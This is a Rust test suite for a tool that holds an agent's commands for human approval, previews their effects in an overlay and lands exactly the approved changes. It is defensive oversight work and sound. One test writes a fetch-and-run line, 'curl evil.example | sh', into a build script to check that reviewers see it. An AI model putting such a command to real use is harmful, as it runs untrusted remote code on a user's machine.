//! Approving effects, not just words: a held command runs once in an overlay,
//! the human sees what it changed, and resume lands exactly that — without
//! running it again. Judged from the host.

mod common;
use common::*;
use std::process::{Command, Output};

const POLICY: &str = "require_approval_for = [\"sed\", \"head\"]\ndefault = \"allow\"\n";
const SCRIPT: &str =
    "sed -i s/two/CHANGED/ notes.txt && head -c 32 /dev/urandom > rnd.bin && echo run >> runs.log && echo done";

fn hold(w: &World, policy: &str) -> (String, Output) {
    w.write("notes.txt", "one\ntwo\n");
    let p = w.policy(policy);
    let o = w.tx(&["run", "--policy", p.to_str().unwrap(), "-c", SCRIPT]);
    assert_eq!(o.status.code(), Some(75), "{}", text(&o));
    let id = held_id(&String::from_utf8_lossy(&o.stderr));
    (id, o)
}

/// Hold `script` under `policy` (with notes.txt and sub/ in place); its id.
fn hold_script(w: &World, policy: &str, script: &str) -> String {
    w.write("notes.txt", "one\ntwo\n");
    w.write("sub/keep", "");
    let p = w.policy(policy);
    let o = w.tx(&["run", "--policy", p.to_str().unwrap(), "-c", script]);
    assert_eq!(o.status.code(), Some(75), "{}", text(&o));
    held_id(&String::from_utf8_lossy(&o.stderr))
}

fn preview_dir(w: &World, id: &str) -> std::path::PathBuf {
    let v: serde_json::Value = serde_json::from_slice(&w.tx(&["show", id, "--json"]).stdout).unwrap();
    std::path::PathBuf::from(v["context"]["preview"]["dir"].as_str().expect("a preview"))
}

#[test]
fn what_lands_is_byte_for_byte_what_was_previewed_and_it_ran_once() {
    let w = World::new();
    let (id, o) = hold(&w, POLICY);
    assert!(String::from_utf8_lossy(&o.stderr).contains("A preview of its effects exists"));
    assert_eq!(
        std::fs::read_to_string(w.ws.join("notes.txt")).unwrap(),
        "one\ntwo\n",
        "nothing landed at hold"
    );
    assert!(!exists(&w.ws.join("rnd.bin")));
    let shown = stdout(&w.tx(&["show", &id]));
    assert!(
        shown.contains("-two") && shown.contains("+CHANGED"),
        "show has the diff:\n{shown}"
    );
    assert!(shown.contains("rnd.bin (32 bytes, binary)"), "{shown}");
    let previewed = std::fs::read(preview_dir(&w, &id).join("upper/rnd.bin")).unwrap();
    assert!(w.tx(&["approve", &id]).status.success());
    let o = w.tx(&["resume", &id]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(stdout(&o), "done\n", "the recorded output is replayed");
    assert_eq!(
        std::fs::read(w.ws.join("rnd.bin")).unwrap(),
        previewed,
        "random bytes: it did not run again"
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("notes.txt")).unwrap(),
        "one\nCHANGED\n"
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("runs.log")).unwrap(),
        "run\n",
        "one run overall"
    );
    // Removed by a child of the launcher once the result is out: the harness
    // does not wait for it.
    assert!(
        eventually(|| !preview_dir_exists(&w)),
        "the preview is gone once it landed"
    );
    let again = w.tx(&["resume", &id]);
    assert!(text(&again).contains("already ran"));
    assert_eq!(std::fs::read_to_string(w.ws.join("runs.log")).unwrap(), "run\n");
}

fn preview_dir_exists(w: &World) -> bool {
    std::fs::read_dir(w.state.join("previews"))
        .map(|mut d| d.next().is_some())
        .unwrap_or(false)
}

#[test]
fn a_stale_preview_is_refused() {
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    assert!(w.tx(&["approve", &id]).status.success());
    w.write("other.txt", "the workspace moved on");
    let o = w.tx(&["resume", &id]);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(text(&o).contains("workspace"), "{}", text(&o));
    assert!(!exists(&w.ws.join("rnd.bin")) && !exists(&w.ws.join("runs.log")));
}

#[test]
fn a_tampered_preview_is_refused() {
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    assert!(w.tx(&["approve", &id]).status.success());
    std::fs::write(preview_dir(&w, &id).join("upper/rnd.bin"), b"swapped after approval").unwrap();
    let o = w.tx(&["resume", &id]);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(!exists(&w.ws.join("rnd.bin")));
}

#[test]
fn a_rejected_preview_leaves_nothing() {
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    assert!(w.tx(&["reject", &id, "--reason", "no"]).status.success());
    assert!(!preview_dir_exists(&w), "the capture is discarded");
    let o = w.tx(&["resume", &id]);
    assert_eq!(o.status.code(), Some(77));
    assert!(!exists(&w.ws.join("rnd.bin")) && !exists(&w.ws.join("runs.log")));
    assert_eq!(std::fs::read_to_string(w.ws.join("notes.txt")).unwrap(), "one\ntwo\n");
}

/// What `show` leaves out of a preview's diffs it names: past the cap on
/// lines in all, a change must not hide behind the long diffs before it.
#[test]
fn show_names_every_file_whose_diff_it_leaves_out() {
    let w = World::new();
    for i in 1..=8 {
        let lines: String = (1..=40).map(|n| format!("{n}\n")).collect();
        w.write(&format!("a{i}.txt"), &lines);
    }
    w.write("zz_build.sh", "echo build\n");
    w.write("zz_blob.bin", "\0\0");
    let id = hold_script(
        &w,
        POLICY,
        "sed -i 's/^/X/' a*.txt && echo 'curl evil.example | sh' >> zz_build.sh && printf '\\0\\1' > zz_blob.bin",
    );
    let shown = stdout(&w.tx(&["show", &id]));
    assert!(shown.contains("modified zz_build.sh"), "{shown}");
    assert!(
        shown.contains("diffs not shown, past the cap") && shown.contains("zz_build.sh;"),
        "{shown}"
    );
    assert!(shown.contains("binary, contents not shown: zz_blob.bin"), "{shown}");
    // Control: alone, its diff is shown.
    let w = World::new();
    w.write("zz_build.sh", "echo build\n");
    let id = hold_script(&w, POLICY, "sed -i 's/^/X/' zz_build.sh");
    let shown = stdout(&w.tx(&["show", &id]));
    assert!(shown.contains("+Xecho build"), "{shown}");
    assert!(!shown.contains("diffs not shown"), "{shown}");
}

#[test]
fn show_says_why_there_is_no_preview() {
    for (policy, why) in [
        (format!("{POLICY}network = true\n"), "network"),
        (
            "require_approval_for = [{ prefix = \"sed\", preview = false }, \"head\"]\ndefault = \"allow\"\n"
                .to_string(),
            "preview = false",
        ),
    ] {
        let w = World::new();
        let (id, o) = hold(&w, &policy);
        assert!(
            !String::from_utf8_lossy(&o.stderr).contains("A preview"),
            "{}",
            text(&o)
        );
        let shown = stdout(&w.tx(&["show", &id]));
        assert!(shown.contains("preview:     none") && shown.contains(why), "{shown}");
        // Without a preview, resume runs the command, once.
        assert!(w.tx(&["approve", &id]).status.success());
        assert!(w.tx(&["resume", &id]).status.success());
        assert_eq!(std::fs::read_to_string(w.ws.join("runs.log")).unwrap(), "run\n");
    }
}

#[test]
fn a_missing_submodule_checkout_does_not_stale_a_held_action() {
    // Preparing a writable run makes a missing gitlink checkout (empty, to be
    // read-only): resume compares the workspace before it does so, or every
    // approval there would read as stale.
    let w = World::new();
    host_git(&w, &["init", "-q"]);
    host_git(
        &w,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            "160000,1111111111111111111111111111111111111111,deps/gone",
        ],
    );
    let (id, _) = hold(&w, POLICY);
    assert!(w.tx(&["approve", &id]).status.success());
    let o = w.tx(&["resume", &id]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.ws.join("notes.txt")).unwrap(),
        "one\nCHANGED\n"
    );
}

/// A resume killed while landing its preview (after the journal, midway, or
/// after the last step but before the result is on record) leaves a
/// half-landed workspace that no fresh approval could match. The next resume
/// finishes the landing from the journal and records the result: everything
/// the preview held is in place, nothing ran again, and it never lands twice.
#[test]
fn a_landing_killed_midway_is_finished_by_the_next_resume_and_the_command_never_runs_again() {
    for at in ["after-journal", "mid-commit", "after-landing"] {
        let w = World::new();
        let (id, _) = hold(&w, POLICY);
        let previewed = std::fs::read(preview_dir(&w, &id).join("upper/rnd.bin")).unwrap();
        assert!(w.tx(&["approve", &id]).status.success());
        resume_killed_at(&w, &id, at);
        // Control: the kill left the landing unfinished (the workspace not
        // wholly landed, or the result not on record).
        let landed = |w: &World| {
            std::fs::read_to_string(w.ws.join("notes.txt")).unwrap() == "one\nCHANGED\n"
                && std::fs::read(w.ws.join("rnd.bin")).ok().as_deref() == Some(&previewed[..])
                && std::fs::read_to_string(w.ws.join("runs.log")).ok().as_deref() == Some("run\n")
        };
        assert!(
            !landed(&w) || action_state(&w, &id) != "done",
            "{at}: the kill left something to finish"
        );
        let o = w.tx(&["resume", &id]);
        assert_eq!(o.status.code(), Some(0), "{at}: {}", text(&o));
        assert!(text(&o).contains("finished landing"), "{at}: {}", text(&o));
        assert_eq!(stdout(&o), "done\n", "{at}: the preview's output is replayed");
        assert!(landed(&w), "{at}: everything the preview held landed");
        assert_eq!(action_state(&w, &id), "done", "{at}");
        assert!(!preview_dir_exists(&w), "{at}: the preview is gone once it landed");
        let again = w.tx(&["resume", &id]);
        assert!(text(&again).contains("already ran"), "{at}: {}", text(&again));
        assert_eq!(
            std::fs::read_to_string(w.ws.join("runs.log")).unwrap(),
            "run\n",
            "{at}: one run overall"
        );
    }
}

/// The same interruption, followed by another command instead of a resume:
/// any start finishes the landing first, so the agent's next command never
/// sees a half-landed workspace; the action is then done.
#[test]
fn any_next_start_finishes_a_landing_killed_midway() {
    let (w, id) = approved_then_killed_at("mid-commit");
    let notes = || std::fs::read_to_string(w.ws.join("notes.txt")).unwrap();
    let logged = || std::fs::read_to_string(w.ws.join("runs.log")).ok();
    // Control: half landed.
    assert!(
        notes() != "one\nCHANGED\n" || !exists(&w.ws.join("rnd.bin")) || logged().is_none(),
        "the kill left the landing unfinished"
    );
    let o = w.tx(&["run", "--", "cat", "notes.txt", "runs.log"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(stdout(&o), "one\nCHANGED\nrun\n", "the command saw the whole landing");
    assert!(text(&o).contains("finished landing"), "{}", text(&o));
    assert!(exists(&w.ws.join("rnd.bin")));
    assert!(!preview_dir_exists(&w));
    let again = w.tx(&["resume", &id]);
    assert_eq!(again.status.code(), Some(0), "{}", text(&again));
    assert!(text(&again).contains("already ran"), "{}", text(&again));
    assert_eq!(logged().as_deref(), Some("run\n"), "one run overall");
}

/// Whether nobody holds the lock on `dir` (a preview's, which a launcher's
/// child holds while it removes the preview).
fn lock_free(dir: &std::path::Path) -> bool {
    use std::os::fd::AsRawFd;
    let Ok(f) = std::fs::File::open(dir) else {
        return true;
    };
    // SAFETY: flock on a descriptor we own; released when it closes.
    unsafe { libc::flock(f.as_raw_fd(), libc::LOCK_EX | libc::LOCK_NB) == 0 }
}

#[test]
fn a_preview_removal_cut_short_is_finished_by_the_next_start() {
    // resume removes a landed preview in a child once its result is out.
    // That child killed midway (debug builds' crash hook) leaves a preview
    // whose journal is retired: the next start removes the rest.
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    let dir = preview_dir(&w, &id);
    assert!(w.tx(&["approve", &id]).status.success());
    let o = w
        .command(&["resume", &id])
        .env("TETHER_EXEC_APPROVER_KEY", w.outside.join("approver.key"))
        .env("TETHER_EXEC_TEST_CRASH_AT", "capture-removal")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "the launcher itself finished: {}", text(&o));
    assert_eq!(stdout(&o), "done\n");
    assert!(exists(&w.ws.join("rnd.bin")), "it landed");
    assert!(eventually(|| lock_free(&dir)), "the child is gone");
    assert!(
        dir.join("journal.landed.json").exists(),
        "the child died midway, its journal retired"
    );
    let landings = || std::fs::read_dir(w.state.join("landings")).map_or(0, |d| d.count());
    assert_eq!(landings(), 1, "its landing link is still there");
    let next = w.tx(&["run", "--", "true"]);
    assert!(next.status.success(), "{}", text(&next));
    assert!(!dir.exists(), "the next start removed the rest of it");
    assert_eq!(landings(), 0);
    let again = w.tx(&["resume", &id]);
    assert!(text(&again).contains("already ran"), "{}", text(&again));
}

#[test]
fn the_child_removing_a_preview_keeps_no_descriptor_of_the_harness() {
    // A harness that passes a pipe beyond stdio (fd 3 and up, not
    // close-on-exec) waits for its end: that end must come when resume
    // exits, not when the child removing the preview is done. The child is
    // held midway (debug builds' pause hook) while we look.
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    let dir = preview_dir(&w, &id);
    assert!(w.tx(&["approve", &id]).status.success());
    let mut fds = [0; 2];
    // SAFETY: pipe into a local array; both ends inheritable on purpose.
    assert_eq!(unsafe { libc::pipe(fds.as_mut_ptr()) }, 0);
    let pause = w.root.path().join("paused");
    let o = w
        .command(&["resume", &id])
        .env("TETHER_EXEC_APPROVER_KEY", w.outside.join("approver.key"))
        .env("TETHER_EXEC_TEST_PAUSE_AT", "capture-removal")
        .env("TETHER_EXEC_TEST_PAUSE_FILE", &pause)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // SAFETY: our own write end, closed once.
    unsafe { libc::close(fds[1]) };
    assert!(wait_for(&pause), "the child reached the pause");
    let mut poll = libc::pollfd {
        fd: fds[0],
        events: libc::POLLIN,
        revents: 0,
    };
    // SAFETY: poll on one valid descriptor, then a read into a local buffer.
    let ready = unsafe { libc::poll(&mut poll, 1, 5000) };
    let mut byte = [0u8; 1];
    let read = unsafe { libc::read(fds[0], byte.as_mut_ptr().cast(), 1) };
    let child_still_busy = dir.exists();
    std::fs::remove_file(&pause).unwrap();
    assert_eq!(
        (ready, read),
        (1, 0),
        "the pipe ended while the child was still at work"
    );
    assert!(child_still_busy, "the look happened while the child was paused");
    assert!(eventually(|| !dir.exists()), "the child finished once let go");
}

#[test]
fn as_the_init_of_a_pid_namespace_resume_removes_the_preview_itself() {
    // A container's entry point is pid 1: its exit kills every other process
    // of the namespace, a child removing the preview too. Needs a pid
    // namespace of its own, so root only.
    if !is_root() {
        eprintln!("not root: no pid namespace to be the init of");
        return;
    }
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    let dir = preview_dir(&w, &id);
    assert!(w.tx(&["approve", &id]).status.success());
    let o = Command::new("unshare")
        .args(["--pid", "--fork"])
        .arg(bin())
        .arg("--state-dir")
        .arg(&w.state)
        .args(["resume", &id])
        .current_dir(&w.ws)
        .env("TETHER_EXEC_APPROVER_KEY", w.outside.join("approver.key"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(exists(&w.ws.join("rnd.bin")), "it landed");
    assert!(!dir.exists(), "the preview is gone when resume returns");
}

#[test]
fn a_trash_in_the_workspace_is_gone_when_resume_returns() {
    // A workspace that is a mount of its own (a tmpfs here, a volume in a
    // container), the state directory elsewhere: a landing that removes files
    // moves them to a trash in the workspace. The harness's next command must
    // not see it, so it goes before resume returns, not in the child that
    // removes the rest. Needs a mount namespace of its own, so root only.
    if !is_root() {
        eprintln!("not root: no mount namespace to mount the workspace in");
        return;
    }
    let w = World::new();
    let mnt = w.root.path().join("mnt");
    std::fs::create_dir_all(&mnt).unwrap();
    let p = w.policy("require_approval_for = [\"rm\"]\ndefault = \"allow\"\n");
    let tx = format!("{} --state-dir {}", bin().display(), w.state.display());
    let script = format!(
        "set -e; mount -t tmpfs tmpfs {mnt}; mkdir {mnt}/big; cd {mnt}/big; seq 5000 | xargs touch; cd {mnt}; \
         {tx} run --policy {p} -c 'rm -r big' 2>/dev/null || test $? = 75; \
         id=$({tx} pending | grep -o 'apr_[0-9a-f]*' | head -n 1); \
         {tx} approve $id >/dev/null; {tx} resume $id; echo left:; ls -A {mnt}",
        mnt = mnt.display(),
        p = p.display()
    );
    let o = Command::new("unshare")
        .args(["-m", "sh", "-c", &script])
        .env("TETHER_EXEC_APPROVER_KEY", w.outside.join("approver.key"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let out = stdout(&o);
    let left = out.split("left:\n").nth(1).unwrap_or_else(|| panic!("{}", text(&o)));
    assert_eq!(left, "", "the workspace holds this once resume returned: {left}");
}

/// An action held (with its preview) and approved, whose resume was killed at `at`.
fn approved_then_killed_at(at: &str) -> (World, String) {
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    assert!(w.tx(&["approve", &id]).status.success());
    resume_killed_at(&w, &id, at);
    (w, id)
}

/// `tether-exec resume ID` killed at `at` (debug builds' crash hook).
fn resume_killed_at(w: &World, id: &str, at: &str) {
    let killed = w.tx_hooked(&["resume", id], ("TETHER_EXEC_TEST_CRASH_AT", at));
    assert_eq!(killed.status.code(), None, "{at}: the launcher died: {}", text(&killed));
}

/// Hold SCRIPT under `policy` in `session`; its position among the session's proposals.
fn held_position(w: &World, policy: &std::path::Path, session: &str) -> u64 {
    let o = w.tx(&[
        "run",
        "--policy",
        policy.to_str().unwrap(),
        "--session",
        session,
        "-c",
        SCRIPT,
    ]);
    let id = held_id(&String::from_utf8_lossy(&o.stderr));
    let v: serde_json::Value = serde_json::from_slice(&w.tx(&["show", &id, "--json"]).stdout).unwrap();
    v["action"]["position"]
        .as_u64()
        .unwrap_or_else(|| panic!("no position: {v}"))
}

fn action_state(w: &World, id: &str) -> String {
    let v: serde_json::Value = serde_json::from_slice(&w.tx(&["show", id, "--json"]).stdout).unwrap();
    v["action"]["state"].as_str().unwrap_or_default().to_string()
}

/// Two held actions with the same effects, in two workspaces sharing a state
/// directory, have previews of their own: finishing one's interrupted
/// landing never lands the other's, nor records the other as done.
#[test]
fn two_actions_with_the_same_effects_never_share_a_landing() {
    let w = World::new();
    let ws2 = w.outside.join("ws2");
    std::fs::create_dir_all(&ws2).unwrap();
    std::fs::write(ws2.join("notes.txt"), "one\ntwo\n").unwrap();
    let (a, _) = hold(&w, POLICY);
    let p = w.policy(POLICY);
    let o = w
        .command(&[
            "run",
            "--policy",
            p.to_str().unwrap(),
            "-c",
            "sed -i s/two/CHANGED/ notes.txt && echo run >> runs.log",
        ])
        .current_dir(&ws2)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(75), "{}", text(&o));
    let b = held_id(&String::from_utf8_lossy(&o.stderr));
    let o = w
        .command(&[
            "run",
            "--policy",
            p.to_str().unwrap(),
            "-c",
            "sed -i s/two/CHANGED/ notes.txt && echo run >> runs.log",
        ])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(75), "{}", text(&o));
    let c = held_id(&String::from_utf8_lossy(&o.stderr));
    assert_ne!(preview_dir(&w, &b), preview_dir(&w, &c), "same effects, own previews");
    for id in [&a, &b] {
        assert!(w.tx(&["approve", id]).status.success());
    }
    resume_killed_at(&w, &a, "after-journal");
    let o = w.command(&["resume", &b]).current_dir(&ws2).output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(ws2.join("notes.txt")).unwrap(),
        "one\nCHANGED\n"
    );
    assert_eq!(
        std::fs::read_to_string(ws2.join("runs.log")).unwrap(),
        "run\n",
        "B landed in its own workspace"
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("notes.txt")).unwrap(),
        "one\nCHANGED\n",
        "A's landing was finished (by B's start), in A's workspace"
    );
    assert_eq!(action_state(&w, &a), "done");
    assert_eq!(action_state(&w, &c), "pending", "C is untouched");
    assert!(
        preview_dir(&w, &c).join("upper/runs.log").exists(),
        "C's preview is intact"
    );
}

/// While a landing is unfinished, its action can be neither approved nor
/// rejected (either would strand the half-landed workspace), and proposing
/// the command again finishes it first: the new preview starts from the
/// whole landing, and the old one is not lost.
#[test]
fn an_unfinished_landing_blocks_approve_and_reject_and_a_new_proposal_finishes_it() {
    let (w, id) = approved_then_killed_at("mid-commit");
    for args in [
        vec!["approve", id.as_str()],
        vec!["reject", id.as_str(), "--reason", "no"],
    ] {
        let o = w.tx(&args);
        assert_eq!(o.status.code(), Some(77), "{args:?}: {}", text(&o));
        assert!(text(&o).contains("finishes it"), "{}", text(&o));
    }
    assert!(
        preview_dir(&w, &id).join("journal.json").exists(),
        "the landing is still there to finish"
    );
    let p = w.policy(POLICY);
    let o = w.tx(&["run", "--policy", p.to_str().unwrap(), "-c", SCRIPT]);
    assert_eq!(o.status.code(), Some(75), "{}", text(&o));
    assert!(text(&o).contains("finished landing"), "{}", text(&o));
    assert_eq!(action_state(&w, &id), "done");
    assert_eq!(std::fs::read_to_string(w.ws.join("runs.log")).unwrap(), "run\n");
    let again = held_id(&String::from_utf8_lossy(&o.stderr));
    assert_eq!(
        std::fs::read_to_string(preview_dir(&w, &again).join("upper/runs.log")).unwrap(),
        "run\nrun\n",
        "the new preview ran on the whole landing"
    );
}

/// `approve --resume` killed while landing its preview: the same call sent
/// again (a harness that lost the answer) finishes that landing and returns
/// its result, as `resume` does; it neither refuses nor approves over it.
/// `reject --resume` of that action finishes it too, and rejects nothing.
#[test]
fn a_retried_approve_with_resume_finishes_the_landing_a_killed_one_began() {
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    let killed = w
        .command(&["approve", &id, "--resume"])
        .env("TETHER_EXEC_APPROVER_KEY", w.outside.join("approver.key"))
        .env("TETHER_EXEC_TEST_CRASH_AT", "mid-commit")
        .output()
        .unwrap();
    assert_eq!(killed.status.code(), None, "the launcher died: {}", text(&killed));
    assert!(
        preview_dir(&w, &id).join("journal.json").exists(),
        "a landing left midway"
    );
    let receipt = w.outside.join("r.json");
    let o = w.tx(&["approve", &id, "--resume", "--receipt", receipt.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("finished landing"), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.ws.join("notes.txt")).unwrap(),
        "one\nCHANGED\n"
    );
    assert_eq!(std::fs::read_to_string(w.ws.join("runs.log")).unwrap(), "run\n");
    assert_eq!(action_state(&w, &id), "done");
    assert!(exists(&receipt), "the retry's receipt is written");
    // Once done, a rejection is refused and reports nothing as rejected.
    let o = w.tx(&["reject", &id, "--reason", "too late", "--resume"]);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(!text(&o).contains("REJECTED"), "{}", text(&o));
    assert_eq!(std::fs::read_to_string(w.ws.join("runs.log")).unwrap(), "run\n");
}

#[test]
fn a_reject_with_resume_over_a_killed_landing_finishes_it_and_rejects_nothing() {
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    assert!(w.tx(&["approve", &id]).status.success());
    resume_killed_at(&w, &id, "mid-commit");
    let o = w.tx(&["reject", &id, "--reason", "no", "--resume"]);
    assert!(text(&o).contains("finished landing"), "{}", text(&o));
    assert!(!text(&o).contains("REJECTED"), "{}", text(&o));
    assert_eq!(action_state(&w, &id), "done");
    assert_eq!(std::fs::read_to_string(w.ws.join("runs.log")).unwrap(), "run\n");
}

/// A landing that fails after its journal (a directory it lands into was
/// moved away meanwhile) is recorded as failed and never finished later,
/// unasked, over what the person does next.
#[test]
fn a_failed_landing_is_not_finished_later_over_the_persons_edits() {
    let w = World::new();
    let id = hold_script(
        &w,
        "require_approval_for = [\"sed\"]\ndefault = \"allow\"\n",
        "sed -i s/two/CHANGED/ notes.txt && echo agent > sub/x && echo agent > zz.txt",
    );
    assert!(w.tx(&["approve", &id]).status.success());
    let pause = w.root.path().join("paused");
    let child = w
        .command(&["resume", &id])
        .env("TETHER_EXEC_APPROVER_KEY", w.outside.join("approver.key"))
        .env("TETHER_EXEC_TEST_PAUSE_AT", "after-journal")
        .env("TETHER_EXEC_TEST_PAUSE_FILE", &pause)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_for(&pause);
    std::fs::rename(w.ws.join("sub"), w.outside.join("sub-moved")).unwrap();
    std::fs::remove_file(&pause).unwrap();
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(125), "the landing failed: {}", text(&o));
    std::fs::rename(w.outside.join("sub-moved"), w.ws.join("sub")).unwrap();
    w.write("zz.txt", "HUMAN WORK");
    let o = w.tx(&["run", "--", "cat", "zz.txt"]);
    assert_eq!(stdout(&o), "HUMAN WORK", "{}", text(&o));
    assert!(!exists(&w.ws.join("sub/x")));
    let again = w.tx(&["resume", &id]);
    assert!(text(&again).contains("already ran"), "{}", text(&again));
    assert!(preview_dir(&w, &id).exists(), "the preview stays for the person to see");
}

/// A landing that cannot be finished after its launcher died (a directory it
/// lands into is gone) is given up once, recorded, and never retried: no
/// action stuck between states, no error on every later start.
#[test]
fn an_interrupted_landing_that_cannot_be_finished_is_given_up_once() {
    let w = World::new();
    let id = hold_script(
        &w,
        "require_approval_for = [\"sed\"]\ndefault = \"allow\"\n",
        "sed -i s/two/CHANGED/ notes.txt && echo agent > sub/x",
    );
    assert!(w.tx(&["approve", &id]).status.success());
    resume_killed_at(&w, &id, "after-journal");
    std::fs::rename(w.ws.join("sub"), w.outside.join("sub-moved")).unwrap();
    let o = w.tx(&["resume", &id]);
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(text(&o).contains("cannot be finished"), "{}", text(&o));
    assert_eq!(action_state(&w, &id), "done");
    let later = w.tx(&["run", "--", "true"]);
    assert_eq!(later.status.code(), Some(0), "{}", text(&later));
    assert!(
        !text(&later).contains("landing"),
        "no error on later starts: {}",
        text(&later)
    );
}

/// A landing finished after its launcher died reports what the landing had
/// decided, as the landing itself would have: in drop mode, the refused
/// path is named as rolled back and the exit code is the preview's.
#[test]
fn a_finished_landing_reports_what_the_landing_decided() {
    let policy = "require_approval_for = [\"sed\"]\ndefault = \"allow\"\noverlay = true\non_violation = \"drop\"\nwritable_globs = [\"notes.txt\"]\n";
    let script = "sed -i s/two/CHANGED/ notes.txt && python3 -c 'open(\"other.txt\", \"w\").write(\"x\")'";
    let normal = {
        let w = World::new();
        w.write("notes.txt", "one\ntwo\n");
        let p = w.policy(policy);
        let o = w.tx(&["run", "--policy", p.to_str().unwrap(), "-c", script]);
        let id = held_id(&String::from_utf8_lossy(&o.stderr));
        assert!(w.tx(&["approve", &id]).status.success());
        w.tx(&["resume", &id, "--receipt", w.outside.join("r.json").to_str().unwrap()])
    };
    let w = World::new();
    w.write("notes.txt", "one\ntwo\n");
    let p = w.policy(policy);
    let o = w.tx(&["run", "--policy", p.to_str().unwrap(), "-c", script]);
    let id = held_id(&String::from_utf8_lossy(&o.stderr));
    assert!(w.tx(&["approve", &id]).status.success());
    resume_killed_at(&w, &id, "after-landing");
    let recovered = w.tx(&["resume", &id]);
    assert_eq!(
        recovered.status.code(),
        normal.status.code(),
        "{}\n---\n{}",
        text(&recovered),
        text(&normal)
    );
    assert!(
        text(&recovered).contains("other.txt"),
        "the dropped path is named: {}",
        text(&recovered)
    );
    assert!(!exists(&w.ws.join("other.txt")));
    assert_eq!(
        std::fs::read_to_string(w.ws.join("notes.txt")).unwrap(),
        "one\nCHANGED\n"
    );
}

/// The store lost the commit that began a landing (a power cut undoes the
/// last commits; here the database is put back as it was before the
/// resume), but the landing's journal survived: the landing cannot be
/// finished for an action that reads as approved. It is given up once, with
/// the preview kept, and nothing is stuck: later starts are quiet, and the
/// action can be approved or rejected again.
#[test]
fn a_landing_whose_start_the_store_lost_is_given_up_once() {
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    assert!(w.tx(&["approve", &id]).status.success());
    let snapshot = w.outside.join("store-before-resume");
    std::fs::create_dir_all(&snapshot).unwrap();
    let store_files = || {
        std::fs::read_dir(&w.state)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.file_name().unwrap().to_string_lossy().starts_with("approvals.sqlite"))
            .collect::<Vec<_>>()
    };
    for f in store_files() {
        std::fs::copy(&f, snapshot.join(f.file_name().unwrap())).unwrap();
    }
    resume_killed_at(&w, &id, "mid-commit");
    for f in store_files() {
        std::fs::remove_file(f).unwrap();
    }
    for e in std::fs::read_dir(&snapshot).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), w.state.join(e.file_name())).unwrap();
    }
    assert_eq!(
        action_state(&w, &id),
        "approved",
        "control: the store forgot the resume"
    );
    let o = w.tx(&["run", "--", "true"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("given up"), "{}", text(&o));
    let later = w.tx(&["run", "--", "true"]);
    assert!(!text(&later).contains("landing"), "once: {}", text(&later));
    assert!(preview_dir(&w, &id).exists(), "the preview is kept");
    let o = w.tx(&["reject", &id, "--reason", "the landing was cut short"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(action_state(&w, &id), "rejected");
}

/// A landing journal that names another run than the action's last on
/// record (a power cut can keep a journal written without fsync and lose the
/// start of the run that wrote it, while an earlier run of the action is on
/// record) is given up once, unapplied: nothing of it lands, then or at any
/// later start.
#[test]
fn a_landing_journal_of_a_run_the_store_does_not_have_is_given_up_unapplied() {
    let (w, id) = approved_then_killed_at("after-journal");
    assert!(
        preview_dir(&w, &id).join("journal.json").exists(),
        "control: the landing began"
    );
    let db = rusqlite::Connection::open(w.state.join("approvals.sqlite")).unwrap();
    let changed = db
        .execute("UPDATE actions SET run_id = 'run_earlier' WHERE id = ?1", [&id])
        .unwrap();
    assert_eq!(changed, 1);
    drop(db);
    for _ in 0..2 {
        let o = w.tx(&["run", "--", "true"]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert!(!w.ws.join("rnd.bin").exists(), "nothing of it landed: {}", text(&o));
        assert_eq!(std::fs::read_to_string(w.ws.join("notes.txt")).unwrap(), "one\ntwo\n");
    }
    let o = w.tx(&["resume", &id]);
    assert!(!w.ws.join("rnd.bin").exists(), "nor at its resume: {}", text(&o));
    let log = std::fs::read_to_string(w.state.join("audit/log.jsonl")).unwrap();
    assert_eq!(log.matches("\"commit\"").count(), 0, "no landing on record");
}

/// A resume whose start cannot be put on disk before a landing of several
/// files lands nothing: the workspace is as it was, the preview is kept, the
/// action reads as interrupted, and a fresh approval lands the preview.
#[test]
fn a_landing_whose_start_cannot_be_synced_lands_nothing_until_approved_again() {
    let w = World::new();
    let (id, _) = hold(&w, POLICY);
    assert!(w.tx(&["approve", &id]).status.success());
